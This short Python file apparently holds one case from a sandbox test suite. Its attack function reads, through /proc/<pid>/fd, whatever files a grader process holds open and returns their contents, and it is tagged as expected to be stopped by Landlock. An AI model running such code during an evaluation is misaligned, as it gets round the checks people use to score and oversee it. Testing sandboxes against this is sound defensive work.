"""Opens anew what the grader holds open, through /proc."""

import os

STOPPED_BY = "landlock"


def attack(target):
    folder = f"/proc/{target['grader']}/fd"
    found = ""
    for number in os.listdir(folder):
        if os.path.isfile(f"{folder}/{number}"):
            with open(f"{folder}/{number}", errors="replace") as file:
                found += file.read(200)
    return found
